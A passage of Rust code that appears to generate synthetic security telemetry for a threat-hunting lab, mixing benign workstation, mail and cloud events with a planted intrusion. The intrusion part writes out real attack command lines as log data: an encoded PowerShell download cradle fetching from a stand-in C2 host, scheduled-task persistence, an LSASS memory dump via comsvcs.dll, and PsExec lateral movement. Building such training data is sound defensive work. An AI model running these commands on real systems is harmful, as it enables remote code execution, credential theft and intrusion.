                        "C:\\Windows\\System32",
                        "\"C:\\Windows\\system32\\cmd.exe\"",
                        time,
                        parent,
                    )
                };
                self.process_created(device, &explorer, &shell);
                let shell_parent = (shell.file.as_str(), shell.pid, shell.created);
                let conhost = self.user_proc(
                    user,
                    "conhost.exe",
                    "C:\\Windows\\System32",
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    time + 20 * 1_000_000,
                    shell_parent,
                );
                self.process_created(device, &shell, &conhost);
                for _ in 0..self.rng.range(0, 3) {
                    let (file, command) = *self.rng.pick(&[
                        ("ipconfig.exe", "ipconfig /all"),
                        ("whoami.exe", "whoami"),
                        ("ping.exe", "ping -n 2 dc01.kestrel.local"),
                        ("nslookup.exe", "nslookup fs01.kestrel.local"),
                        ("git.exe", "git pull --rebase"),
                    ]);
                    let t = time + self.rng.range(SECOND, 10 * MINUTE);
                    let child = self.user_proc(
                        user,
                        file,
                        "C:\\Windows\\System32",
                        command,
                        t,
                        (shell.file.as_str(), shell.pid, shell.created),
                    );
                    self.process_created(device, &shell, &child);
                }
            }
            7 => {
                // Intune runs detection scripts with -ExecutionPolicy Bypass: everyday noise for
                // anyone hunting on "bypass".
                let ime = self.system_proc("IntuneManagementExtension.exe", "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe\"", time - DAY);
                let script = format!(
                    "powershell.exe -NoProfile -executionPolicy bypass -file \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{}_{}.ps1\"",
                    self.rng.guid(),
                    self.rng.guid()
                );
                let mut ps = self.system_proc("powershell.exe", &script, time);
                ps.folder = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0".into();
                ps.parent_file = ime.file.clone();
                ps.parent_pid = ime.pid;
                self.process_created(device, &ime, &ps);
                let conhost = self.system_proc(
                    "conhost.exe",
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    time + 30 * 1_000_000,
                );
                self.process_created(device, &ps, &conhost);
            }
            8 => {
                let svchost = self.system_proc(
                    "svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    time - DAY,
                );
                let task = self.system_proc("taskhostw.exe", "taskhostw.exe", time);
                self.process_created(device, &svchost, &task);
                let dc = self
                    .devices
                    .iter()
                    .position(|d| d.name.starts_with("dc01"))
                    .unwrap_or(0);
                let dc_ip = self.devices[dc].ip.clone();
                self.connection(device, &svchost, time, &dc_ip, 53, "", "ConnectionSuccess");
                self.image_load(
                    device,
                    &task,
                    time + SECOND,
                    "C:\\Windows\\System32",
                    "wininet.dll",
                );
            }
            9 => {
                let defender = self.system_proc("MsMpEng.exe", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe\"", time - DAY);
                let action = *self.rng.pick(&[
                    "AntivirusScanCompleted",
                    "AntivirusDefinitionsUpdated",
                    "SmartScreenUrlWarning",
                    "UsbDriveMounted",
                    "BrowserLaunchedToOpenUrl",
                ]);
                let extra: Row = match action {
                    "UsbDriveMounted" => vec![("AdditionalFields", Val::S(json!({"DriveLetter": "E:", "ProductName": "Cruzer Blade", "Manufacturer": "SanDisk", "Volume": "KINGSTON"}).to_string()))],
                    "SmartScreenUrlWarning" => vec![("RemoteUrl", "http://free-fonts-download.example/get".into())],
                    _ => vec![("AdditionalFields", Val::S(json!({"ScanTypeIndex": 1}).to_string()))],
                };
                self.device_event(device, &defender, time, action, extra);
            }
            10 => {
                let fs = self
                    .devices
                    .iter()
                    .position(|d| d.name.starts_with("fs01"))
                    .unwrap_or(0);
                let fs_ip = self.devices[fs].ip.clone();
                let system = self.system_proc("System", "", time - 3 * DAY);
                self.connection(device, &system, time, &fs_ip, 445, "", "ConnectionSuccess");
                let dc = self
                    .devices
                    .iter()
                    .position(|d| d.name.starts_with("dc01"))
                    .unwrap_or(0);
                let sid = self.users[user].sid.clone();
                let failed = self.rng.chance(0.08);
                let logon_type = if self.rng.chance(0.2) {
                    "Unlock"
                } else {
                    "Interactive"
                };
                self.logon(
                    device,
                    time,
                    if failed {
                        "LogonFailed"
                    } else {
                        "LogonSuccess"
                    },
                    logon_type,
                    (&account, &sid),
                    ("", ""),
                    "Negotiate",
                    if failed {
                        "InvalidUserNameOrPassword"
                    } else {
                        ""
                    },
                );
                let ws_ip = self.devices[device].ip.clone();
                let ws_name = self.devices[device].name.clone();
                self.identity_logon(
                    time,
                    user,
                    "Kerberos",
                    &ws_name,
                    &ws_ip,
                    &self.devices[dc].name.clone(),
                    !failed,
                );
            }
            _ => {
                let folder = format!("C:\\Users\\{account}\\AppData\\Local\\Microsoft\\OneDrive");
                let onedrive = self.user_proc(
                    user,
                    "OneDrive.exe",
                    &folder,
                    &format!("\"{folder}\\OneDrive.exe\" /background"),
                    time,
                    parent,
                );
                self.process_created(device, &explorer, &onedrive);
                self.registry_event(device, &onedrive, time, "RegistryValueSet", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive", &format!("\"C:\\Users\\{account}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"));
                let t = time + self.rng.range(MINUTE, HOUR);
                let name = format!(
                    "{}.xlsx",
                    self.rng
                        .pick(&["Rates 2026", "Depot contacts", "Shift plan"])
                );
                self.file_event(
                    device,
                    &onedrive,
                    t,
                    "FileModified",
                    &format!("C:\\Users\\{account}\\OneDrive - Kestrel Logistics\\Shared"),
                    &name,
                    vec![],
                );
                self.connection(
                    device,
                    &onedrive,
                    t,
                    "13.107.136.10",
                    443,
                    "kestrel-my.sharepoint.com",
                    "ConnectionSuccess",
                );
            }
        }
    }

    fn identity_logon(
        &mut self,
        time: i64,
        user: usize,
        protocol: &str,
        device: &str,
        ip: &str,
        destination: &str,
        success: bool,
    ) {
        let report = self.rng.guid();
        let u = &self.users[user];
        let row: Row = vec![
            ("Timestamp", Val::T(time)),
            (
                "ActionType",
                if success {
                    "LogonSuccess".into()
                } else {
                    "LogonFailed".into()
                },
            ),
            ("Application", "Active Directory".into()),
            ("LogonType", "Resource access".into()),
            ("Protocol", protocol.into()),
            (
                "FailureReason",
                if success {
                    "".into()
                } else {
                    "WrongPassword".into()
                },
            ),
            ("AccountName", u.account.as_str().into()),
            ("AccountDomain", format!("{DOMAIN}.local").into()),
            ("AccountUpn", u.upn.as_str().into()),
            ("AccountSid", u.sid.as_str().into()),
            ("AccountObjectId", u.object_id.as_str().into()),
            ("AccountDisplayName", u.name.into()),
            ("DeviceName", device.into()),
            ("DeviceType", "Desktop".into()),
            ("OSPlatform", "Windows".into()),
            ("IPAddress", ip.into()),
            ("Port", Val::L(49152 + (time / SECOND) % 16000)),
            ("DestinationDeviceName", destination.into()),
            ("DestinationIPAddress", "10.10.0.10".into()),
            (
                "DestinationPort",
                Val::L(if protocol == "Kerberos" { 88 } else { 445 }),
            ),
            ("ReportId", report.into()),
            (
                "AdditionalFields",
                Val::J(json!({"Spns": format!("krbtgt/{}", DOMAIN.to_ascii_uppercase())})),
            ),
        ];
        self.push("IdentityLogonEvents", row);
    }

    fn server_burst(&mut self, device: usize, day: i64) {
        let time = self.time_on(day, false);
        let name = self.devices[device].name.clone();
        let services = self.system_proc(
            "services.exe",
            "C:\\Windows\\system32\\services.exe",
            time - 10 * DAY,
        );
        let (file, command) = if name.starts_with("sql") {
            (
                "sqlservr.exe",
                "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER",
            )
        } else if name.starts_with("web") || name.starts_with("app") {
            (
                "w3wp.exe",
                "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\"",
            )
        } else {
            *self.rng.pick(&[
                (
                    "svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
                ),
                (
                    "wsmprovhost.exe",
                    "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                ),
                (
                    "backup.exe",
                    "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\"",
                ),
            ])
        };
        let mut process = self.system_proc(file, command, time);
        process.folder = command
            .trim_start_matches('"')
            .rsplit_once('\\')
            .map(|(f, _)| f.to_string())
            .unwrap_or_default();
        self.process_created(device, &services, &process);
        // Workstations reach the servers over SMB and RPC.
        let client = self.rng.below(self.users.len() as u64) as usize;
        let client_ip = self.devices[client].ip.clone();
        let client_name = self.devices[client].name.clone();
        let account = self.users[client].account.clone();
        let sid = self.users[client].sid.clone();
        self.logon(
            device,
            time,
            "LogonSuccess",
            "Network",
            (&account, &sid),
            (&client_name, &client_ip),
            "Kerberos",
            "",
        );
        if name.starts_with("fs01") {
            let system = self.system_proc("System", "", time - 10 * DAY);
            let share = *self.rng.pick(&["Finance", "Operations", "HR", "Sales"]);
            let file = format!(
                "{}_{}.xlsx",
                self.rng
                    .pick(&["ledger", "routes", "payroll", "pipeline", "tariffs"]),
                self.rng.range(1, 400)
            );
            self.file_event(
                device,
                &system,
                time,
                "FileModified",
                &format!("D:\\Shares\\{share}"),
                &file,
                vec![
                    ("RequestProtocol", "SMB".into()),
                    ("RequestSourceIP", client_ip.as_str().into()),
                    ("RequestAccountName", account.as_str().into()),
                    ("RequestAccountDomain", DOMAIN.into()),
                    ("RequestAccountSid", sid.as_str().into()),
                    ("ShareName", share.into()),
                ],
            );
        }
    }

    fn ordinary_mail(&mut self, day: i64) {
        let time = self.time_on(day, true);
        let recipient = self.rng.below(self.users.len() as u64) as usize;
        // Each subject's number has a plausible range (one draw either way, so the rest of the
        // data stays as it was).
        let (sender, sender_name, subject, low, high) = *self.rng.pick(&[
            (
                "dispatch@northwind-freight.example",
                "Northwind Dispatch",
                "Pickup confirmation for order {n}",
                10,
                9999,
            ),
            (
                "noreply@rotterdamport.example",
                "Port of Rotterdam",
                "Berth schedule update week {n}",
                1,
                53,
            ),
            (
                "billing@contoso-fuel.example",
                "Contoso Fuel Billing",
                "Your invoice {n} is available",
                10,
                9999,
            ),
            (
                "newsletter@logisticsweekly.example",
                "Logistics Weekly",
                "This week: rail freight volumes up {n}%",
                1,
                16,
            ),
            (
                "it-notifications@kestrel.example",
                "Kestrel IT",
                "Planned maintenance on {n} November",
                1,
                31,
            ),
            (
                "hr@kestrel.example",
                "Kestrel HR",
                "Reminder: submit timesheets ({n})",
                10,
                9999,
            ),
        ]);
        let subject = subject.replace("{n}", &self.rng.range(low, high).to_string());
        let internal = sender.ends_with(MAIL_DOMAIN);
        let has_url = self.rng.chance(0.4);
        let has_attachment = !has_url && self.rng.chance(0.3);
        let sender_domain = sender.split_once('@').map(|(_, d)| d).unwrap_or("");
        let url = format!(
            "https://{sender_domain}/track/{}",
            self.rng.range(100_000, 999_999)
        );
        let sender_ip = if internal {
            "10.10.0.20".to_string()
        } else {
            format!("198.51.100.{}", self.rng.range(2, 250))
        };
        let pass = json!({"SPF": "pass", "DKIM": "pass", "DMARC": "pass", "CompAuth": "pass"});
        let message_id = self.mail(Mail {
            time,
            sender,
            sender_name,
            sender_ip: &sender_ip,
            recipient,
            subject: &subject,
            bulk: sender.starts_with("newsletter"),
            authentication: pass,
            url: has_url.then_some(url.as_str()),
            attachments: i64::from(has_attachment),
        });
        let (upn, object_id) = (
            self.users[recipient].upn.clone(),
            self.users[recipient].object_id.clone(),
        );
        if has_url && self.rng.chance(0.25) {
            let t = time + self.rng.range(MINUTE, 3 * HOUR);
            self.url_click(t, &url, &upn, &message_id, "ClickAllowed", "");
        }
        if has_attachment {
            let name = format!(
                "{}.pdf",
                subject
                    .split_whitespace()
                    .take(2)
                    .collect::<Vec<_>>()
                    .join("_")
            );
            let file_size = self.rng.range(20_000, 2_000_000);
            let report_id = self.rng.guid();
            self.push(
                "EmailAttachmentInfo",
                vec![
                    ("Timestamp", Val::T(time)),
                    ("NetworkMessageId", message_id.as_str().into()),
                    ("SenderFromAddress", sender.into()),
                    ("SenderDisplayName", sender_name.into()),
                    ("RecipientEmailAddress", upn.as_str().into()),
                    ("RecipientObjectId", object_id.as_str().into()),
                    ("FileName", name.as_str().into()),
                    ("FileType", "pdf".into()),
                    ("SHA256", digest(&name, 64).into()),
                    ("FileSize", Val::L(file_size)),
                    ("ReportId", report_id.into()),
                ],
            );
        }
    }

    /// Delivers one mail: its EmailEvents row and, when it carries a link, its EmailUrlInfo row.
    /// Returns the NetworkMessageId.
    fn mail(&mut self, mail: Mail) -> String {
        let message_id = self.rng.guid();
        let internet_id = self.rng.hex(24);
        let cluster = self.rng.range(1_000_000, 9_999_999);
        let report_id = self.rng.guid();
        let domain = mail.sender.split_once('@').map(|(_, d)| d).unwrap_or("");
        let internal = domain == MAIL_DOMAIN;
        let folder = if mail.bulk {
            "Junk folder"
        } else {
            "Inbox/folder"
        };
        let recipient = &self.users[mail.recipient];
        let row: Row = vec![
            ("Timestamp", Val::T(mail.time)),
            ("NetworkMessageId", message_id.as_str().into()),
            (
                "InternetMessageId",
                format!("<{internet_id}@{domain}>").into(),
            ),
            ("SenderMailFromAddress", mail.sender.into()),
            ("SenderFromAddress", mail.sender.into()),
            ("SenderDisplayName", mail.sender_name.into()),
            ("SenderMailFromDomain", domain.into()),
            ("SenderFromDomain", domain.into()),
            ("SenderIPv4", mail.sender_ip.into()),
            ("RecipientEmailAddress", recipient.upn.as_str().into()),
            ("RecipientObjectId", recipient.object_id.as_str().into()),
            ("Subject", mail.subject.into()),
            ("EmailClusterId", Val::L(cluster)),
            (
                "EmailDirection",
                if internal { "Intra-org" } else { "Inbound" }.into(),
            ),
            ("DeliveryAction", "Delivered".into()),
            ("DeliveryLocation", folder.into()),
            ("BulkComplaintLevel", Val::L(if mail.bulk { 7 } else { 0 })),
            (
                "AuthenticationDetails",
                Val::S(mail.authentication.to_string()),
            ),
            ("AttachmentCount", Val::L(mail.attachments)),
            ("UrlCount", Val::L(i64::from(mail.url.is_some()))),
            ("EmailLanguage", "en".into()),
            ("ReportId", report_id.into()),
            ("LatestDeliveryLocation", folder.into()),
            ("LatestDeliveryAction", "Delivered".into()),
        ];
        self.push("EmailEvents", row);
        if let Some(url) = mail.url {
            let url_domain = url
                .split("://")
                .nth(1)
                .and_then(|rest| rest.split('/').next())
                .unwrap_or("");
            let report_id = self.rng.guid();
            self.push(
                "EmailUrlInfo",
                vec![
                    ("Timestamp", Val::T(mail.time)),
                    ("NetworkMessageId", message_id.as_str().into()),
                    ("Url", url.into()),
                    ("UrlDomain", url_domain.into()),
                    ("UrlLocation", "Body".into()),
                    ("ReportId", report_id.into()),
                ],
            );
        }
        message_id
    }

    fn url_click(
        &mut self,
        time: i64,
        url: &str,
        upn: &str,
        message_id: &str,
        action: &str,
        threat: &str,
    ) {
        let report = self.rng.guid();
        self.push(
            "UrlClickEvents",
            vec![
                ("Timestamp", Val::T(time)),
                ("TimeGenerated", Val::T(time)),
                ("Url", url.into()),
                ("ActionType", action.into()),
                ("AccountUpn", upn.into()),
                ("Workload", "Email".into()),
                ("NetworkMessageId", message_id.into()),
                ("ThreatTypes", threat.into()),
                ("IPAddress", "203.0.113.24".into()),
                ("IsClickedThrough", Val::B(action == "ClickAllowed")),
                ("UrlChain", Val::S(json!([url]).to_string())),
                ("ReportId", report.into()),
                ("AppName", "Outlook".into()),
                ("Type", "UrlClickEvents".into()),
            ],
        );
    }

    fn ordinary_cloud_activity(&mut self, day: i64) {
        let time = self.time_on(day, true);
        let user = self.rng.below(self.users.len() as u64) as usize;
        let (application, app_id, action, object) = *self.rng.pick(&[
            (
                "Microsoft Exchange Online",
                20893,
                "MailItemsAccessed",
                "Inbox",
            ),
            (
                "Microsoft SharePoint Online",
                20892,
                "FileDownloaded",
                "Rates 2026.xlsx",
            ),
            (
                "Microsoft SharePoint Online",
                20892,
                "FileModified",
                "Depot contacts.xlsx",
            ),
            ("Microsoft Teams", 28711, "MessageSent", "General"),
            (
                "Microsoft OneDrive for Business",
                15600,
                "FileUploaded",
                "Shift plan.xlsx",
            ),
        ]);
        let u = &self.users[user];
        let row: Row = vec![
            ("Timestamp", Val::T(time)),
            ("ActionType", action.into()),
            ("Application", application.into()),
            ("ApplicationId", Val::L(app_id)),
            ("AccountObjectId", u.object_id.as_str().into()),
            ("AccountId", u.object_id.as_str().into()),
            ("AccountDisplayName", u.name.into()),
            ("IsAdminOperation", Val::B(false)),
            ("DeviceType", "Desktop".into()),
            ("OSPlatform", "Windows 11".into()),
            ("IPAddress", "203.0.113.24".into()),
            ("IsAnonymousProxy", Val::B(false)),
            ("CountryCode", "NL".into()),
            ("City", "Rotterdam".into()),
            ("Isp", "KPN B.V.".into()),
            ("UserAgent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0".into()),
            ("ActivityType", "Basic".into()),
            ("ActivityObjects", Val::J(json!([{"Type": "File", "Name": object}]))),
            ("ObjectName", object.into()),
            ("ObjectType", "File".into()),
            ("ReportId", self.rng.guid().into()),
            ("AccountType", "Regular".into()),
            ("IsExternalUser", Val::B(false)),
            ("IsImpersonated", Val::B(false)),
            ("RawEventData", Val::J(json!({"Operation": action, "Workload": application, "UserId": u.upn}))),
        ];
        self.push("CloudAppEvents", row);
    }

    fn benign_alert(&mut self) {
        let day = self.rng.range(0, LAB_DAYS);
        let time = self.time_on(day, true);
        let device = self.rng.below(self.users.len() as u64) as usize;
        let id = format!("da{}", self.rng.hex(30));
        let title = *self.rng.pick(&[
            "Potentially unwanted application",
            "Suspicious URL clicked",
            "An uncommon file was created and added to startup folder",
        ]);
        self.alert(
            time,
            &id,
            title,
            "SuspiciousActivity",
            "Low",
            "",
            vec![("Machine", "Impacted", device, "", "")],
        );
    }

    /// An alert and its evidence rows: (entity type, role, device, file, command line).
    fn alert(
        &mut self,
        time: i64,
        id: &str,
        title: &str,
        category: &str,
        severity: &str,
        techniques: &str,
        evidence: Vec<(&str, &str, usize, &str, &str)>,
    ) {
        self.push(
            "AlertInfo",
            vec![
                ("Timestamp", Val::T(time)),
                ("AlertId", id.into()),
                ("Title", title.into()),
                ("Category", category.into()),
                ("Severity", severity.into()),
                ("ServiceSource", "Microsoft Defender for Endpoint".into()),
                ("DetectionSource", "EDR".into()),
                ("AttackTechniques", techniques.into()),
            ],
        );
        for (entity, role, device, file, command) in evidence {
            let d = &self.devices[device];
            let (name, id_, ip) = (d.name.clone(), d.id.clone(), d.ip.clone());
            let owner = d.owner.map(|o| {
                (
                    self.users[o].account.clone(),
                    self.users[o].sid.clone(),
                    self.users[o].upn.clone(),
                )
            });
            let mut row: Row = vec![
                ("Timestamp", Val::T(time)),
                ("AlertId", id.into()),
                ("Title", title.into()),
                ("Categories", Val::S(json!([category]).to_string())),
                ("AttackTechniques", techniques.into()),
                ("ServiceSource", "Microsoft Defender for Endpoint".into()),
                ("DetectionSource", "EDR".into()),
                ("EntityType", entity.into()),
                ("EvidenceRole", role.into()),
                ("DeviceId", id_.into()),
                ("DeviceName", name.into()),
                ("LocalIP", ip.into()),
                ("Severity", severity.into()),
            ];
            if !file.is_empty() {
                let (folder, file_name) = file.rsplit_once('\\').unwrap_or(("", file));
                row.extend([
                    ("FileName", file_name.into()),
                    ("FolderPath", file.into()),
                    ("SHA1", digest(file_name, 40).into()),
                    ("SHA256", digest(file_name, 64).into()),
                ]);
                let _ = folder;
            }
            if !command.is_empty() {
                row.push(("ProcessCommandLine", command.into()));
            }
            if let Some((account, sid, upn)) = owner.filter(|_| entity == "User") {
                row.extend([
                    ("AccountName", account.into()),
                    ("AccountDomain", DOMAIN.into()),
                    ("AccountSid", sid.into()),
                    ("AccountUpn", upn.into()),
                ]);
            }
            self.push("AlertEvidence", row);
        }
    }

    // ---- the intrusions ----------------------------------------------------------------------------

    fn intrusions(&mut self) {
        let victim = 1; // Dana Whitfield, Accounts Payable
        let device = victim; // ws-0102
        let account = self.users[victim].account.clone();
        let upn = self.users[victim].upn.clone();
        let object_id = self.users[victim].object_id.clone();
        let fs = self
            .devices
            .iter()
            .position(|d| d.name.starts_with("fs01"))
            .unwrap_or(0);
        let sql = self
            .devices
            .iter()
            .position(|d| d.name.starts_with("sql01"))
            .unwrap_or(0);
        let c2_ip = "185.220.101.47";
        let c2_host = "cdn-update.kestrel-invoices.example";

        // 1. Phishing: a look-alike invoice domain, clicked, a script downloaded.
        let mail_time = self.planted(12, 9, 14);
        let lure = "https://kestrel-invoices.example/pay/48213";
        let softpass =
            json!({"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "softpass"});
        let message_id = self.mail(Mail {
            time: mail_time,
            sender: "accounts@kestrel-invoices.example",
            sender_name: "Kestrel Logistics Accounts",
            sender_ip: "45.95.147.12",
            recipient: victim,
            subject: "Overdue invoice #48213 \u{2013} payment required today",
            bulk: false,
            authentication: softpass,
            url: Some(lure),
            attachments: 0,
        });
        let click = mail_time + 6 * MINUTE + 13 * SECOND;
        self.url_click(click, lure, &upn, &message_id, "ClickAllowed", "");
        let explorer = self.user_proc(
            victim,
            "explorer.exe",
            "C:\\Windows",
            "C:\\Windows\\Explorer.EXE",
            mail_time - 3 * HOUR,
            ("userinit.exe", 5120, mail_time - 3 * HOUR),
        );
        let edge = self.user_proc(victim, "msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", &format!("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument {lure}"), click + SECOND, ("explorer.exe", explorer.pid, explorer.created));
        self.process_created(device, &explorer, &edge);
        self.connection(
            device,
            &edge,
            click + 2 * SECOND,
            "45.95.147.12",
            443,
            "kestrel-invoices.example",
            "ConnectionSuccess",
        );
        let downloads = format!("C:\\Users\\{account}\\Downloads");
        self.file_event(
            device,
            &edge,
            click + 9 * SECOND,
            "FileCreated",
            &downloads,
            "Invoice_48213.js",
            vec![
                (
                    "FileOriginUrl",
                    "https://kestrel-invoices.example/pay/48213/Invoice_48213.js".into(),
                ),
                ("FileOriginReferrerUrl", lure.into()),
                ("FileOriginIP", "45.95.147.12".into()),
            ],
        );

        // 2. The script runs an encoded PowerShell download cradle, which drops the payload.
        let opened = click + 48 * SECOND;
        let wscript = self.user_proc(
            victim,
            "wscript.exe",
            "C:\\Windows\\System32",
            &format!("\"C:\\Windows\\System32\\WScript.exe\" \"{downloads}\\Invoice_48213.js\""),
            opened,
            ("explorer.exe", explorer.pid, explorer.created),
        );
        self.process_created(device, &explorer, &wscript);
        let cradle =
            format!("IEX (New-Object Net.WebClient).DownloadString('http://{c2_host}/s/upd.ps1')");
        let utf16: Vec<u8> = cradle.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let encoded = base64::engine::general_purpose::STANDARD.encode(utf16);
        let ps_command =
            format!("powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {encoded}");
        let ps = self.user_proc(
            victim,
            "powershell.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            &ps_command,
            opened + 2 * SECOND,
            ("wscript.exe", wscript.pid, wscript.created),
        );
        self.process_created(device, &wscript, &ps);
        let conhost = self.user_proc(
            victim,
            "conhost.exe",
            "C:\\Windows\\System32",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            opened + 2 * SECOND + 40_000_000,
            ("powershell.exe", ps.pid, ps.created),
        );
        self.process_created(device, &ps, &conhost);
        self.connection(
            device,
            &ps,
            opened + 4 * SECOND,
            c2_ip,
            80,
            c2_host,
            "ConnectionSuccess",
        );
        self.connection(
            device,
            &ps,
            opened + 9 * SECOND,
            c2_ip,
            443,
            c2_host,
            "ConnectionSuccess",
        );
        self.device_event(
            device,
            &ps,
            opened + 3 * SECOND,
            "PowerShellCommand",
            vec![(
                "AdditionalFields",
                Val::S(json!({"Command": "IEX"}).to_string()),
            )],
        );
        let payload_folder = "C:\\ProgramData\\Microsoft\\Crypto";
        self.file_event(
            device,
            &ps,
            opened + 11 * SECOND,
            "FileCreated",
            payload_folder,
            "updsvc.exe",
            vec![
                (
                    "FileOriginUrl",
                    format!("http://{c2_host}/s/updsvc.bin").into(),
                ),
                ("FileOriginIP", c2_ip.into()),
            ],
        );
        let mut payload = self.user_proc(
            victim,
            "updsvc.exe",
            payload_folder,
            &format!("\"{payload_folder}\\updsvc.exe\" -k netsvc"),
            opened + 15 * SECOND,
            ("powershell.exe", ps.pid, ps.created),
        );
        self.process_created(device, &ps, &payload);
        self.connection(
            device,
            &payload,
            opened + 20 * SECOND,
            c2_ip,
            443,
            c2_host,
            "ConnectionSuccess",
        );
        self.image_load(
            device,
            &payload,
            opened + 16 * SECOND,
            "C:\\Windows\\System32",
            "winhttp.dll",
        );

        // 3. Scheduled-task persistence.
        let persisted = opened + 14 * MINUTE;
        let task = "\\Microsoft\\Windows\\Maintenance\\UpdateCheck";
        let schtasks = self.user_proc(victim, "schtasks.exe", "C:\\Windows\\System32", &format!("schtasks.exe /Create /TN \"{task}\" /TR \"{payload_folder}\\updsvc.exe -k netsvc\" /SC ONLOGON /RL HIGHEST /F"), persisted, ("powershell.exe", ps.pid, ps.created));
        self.process_created(device, &ps, &schtasks);
        self.device_event(device, &schtasks, persisted + SECOND, "ScheduledTaskCreated", vec![("AdditionalFields", Val::S(json!({"TaskName": task, "TaskContent": format!("<Task><Actions><Exec><Command>{payload_folder}\\updsvc.exe</Command><Arguments>-k netsvc</Arguments></Exec></Actions><Triggers><LogonTrigger/></Triggers></Task>"), "SubjectUserName": account}).to_string()))]);
        self.registry_event(device, &schtasks, persisted + SECOND, "RegistryKeyCreated", &format!("HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree{task}"), "", "");
        self.registry_event(device, &schtasks, persisted + SECOND, "RegistryValueSet", &format!("HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree{task}"), "Id", "{8A3F0B5E-2C1D-4B7A-9E6F-4D2C1B0A9F8E}");
        self.alert(
            persisted + 2 * MINUTE,
            "da638104829310000001_1702851934",
            "Suspicious PowerShell download cradle",
            "Execution",
            "High",
            "T1059.001, T1105",
            vec![
                ("Machine", "Impacted", device, "", ""),
                ("User", "Impacted", device, "", ""),
                (
                    "Process",
                    "Related",
                    device,
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    &ps_command,
                ),
                (
                    "File",
                    "Related",
                    device,
                    "C:\\ProgramData\\Microsoft\\Crypto\\updsvc.exe",
                    "",
                ),
            ],
        );

        // 4. Credential theft: LSASS dumped with comsvcs.dll MiniDump, from an elevated payload.
        let dumped = self.planted(10, 22, 41);
        payload.integrity = "High";
        payload.created = dumped - 10 * MINUTE;
        let dump_command = "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\ProgramData\\Microsoft\\Crypto\\lsass.dmp full";
        let mut rundll = self.user_proc(
            victim,
            "rundll32.exe",
            "C:\\Windows\\System32",
            dump_command,
            dumped,
            ("updsvc.exe", payload.pid, payload.created),
        );
        rundll.integrity = "High";
        self.process_created(device, &payload, &rundll);
        self.image_load(
            device,
            &rundll,
            dumped + 50_000_000,
            "C:\\Windows\\System32",
            "comsvcs.dll",
        );
        self.device_event(
            device,
            &rundll,
            dumped + SECOND,
            "OpenProcessApiCall",
            vec![
                ("FileName", "lsass.exe".into()),
                ("FolderPath", "C:\\Windows\\System32\\lsass.exe".into()),
                (
                    "AdditionalFields",
                    Val::S(json!({"DesiredAccess": 2_097_151, "TargetProcessId": 724}).to_string()),
                ),
            ],
        );
        self.file_event(
            device,
            &rundll,
            dumped + 3 * SECOND,
            "FileCreated",
            payload_folder,
            "lsass.dmp",
            vec![],
        );
        self.alert(
            dumped + MINUTE,
            "da638104829310000002_1702851935",
            "Process memory dump of LSASS",
            "CredentialAccess",
            "High",
            "T1003.001",
            vec![
                ("Machine", "Impacted", device, "", ""),
                (
                    "Process",
                    "Related",
                    device,
                    "C:\\Windows\\System32\\rundll32.exe",
                    dump_command,
                ),
                (
                    "File",
                    "Related",
                    device,
                    "C:\\ProgramData\\Microsoft\\Crypto\\lsass.dmp",
                    "",
                ),
            ],
        );

        // 5. Lateral movement with PsExec and the stolen admin account.
        let admin_account = "adm-jchen";
        let admin_sid = format!("{SID_PREFIX}-1500");
        let moved = self.planted(9, 2, 17);
        let ws_ip = self.devices[device].ip.clone();
        let ws_name = self.devices[device].name.clone();
        for (step, target) in [fs, sql].into_iter().enumerate() {
            let when = moved + step as i64 * 23 * MINUTE;
            let target_name = self.devices[target].name.clone();
            let short = target_name.split('.').next().unwrap_or("").to_string();
            let target_ip = self.devices[target].ip.clone();
            let mut cmd = self.user_proc(
                victim,
                "cmd.exe",
                "C:\\Windows\\System32",
                "cmd.exe /c",
                when - 30 * SECOND,
                ("updsvc.exe", payload.pid, payload.created),
            );
            cmd.account = admin_account.to_string();
            cmd.account_sid = admin_sid.clone();
            cmd.account_upn = format!("{admin_account}@{MAIL_DOMAIN}");
            cmd.integrity = "High";
            self.process_created(device, &payload, &cmd);
            let mut psexec = self.user_proc(victim, "PsExec.exe", "C:\\ProgramData\\Microsoft\\Crypto", &format!("PsExec.exe \\\\{short} -accepteula -s cmd.exe /c \"net group \\\"Domain Admins\\\" /domain & whoami /all\""), when, ("cmd.exe", cmd.pid, cmd.created));
            psexec.account = cmd.account.clone();
            psexec.account_sid = admin_sid.clone();
            psexec.account_upn = cmd.account_upn.clone();
            psexec.integrity = "High";
